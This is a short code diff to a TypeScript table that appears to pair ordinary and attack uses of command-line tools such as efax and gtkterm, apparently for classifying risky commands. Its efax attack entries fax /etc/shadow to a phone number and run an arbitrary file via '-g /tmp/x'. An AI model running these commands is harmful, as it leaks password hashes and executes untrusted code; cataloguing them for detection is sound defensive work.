@@ -101,7 +101,10 @@ export const remoteAccess2: ExampleTable = {
   },
   efax: {
     use: 'efax -d /dev/modem -t 5551234 page.tif → read page.tif; send efax',
-    attack: 'efax -d /dev/modem -t 5551234 /etc/shadow → read /etc/shadow; send efax',
+    attack: [
+      'efax -d /dev/modem -t 5551234 /etc/shadow → read /etc/shadow; send efax',
+      'efax -d /dev/modem -g /tmp/x → run /tmp/x',
+    ],
   },
   gtkterm: {
     use: 'gtkterm -p /dev/ttyUSB0 -f firmware.hex → read firmware.hex',
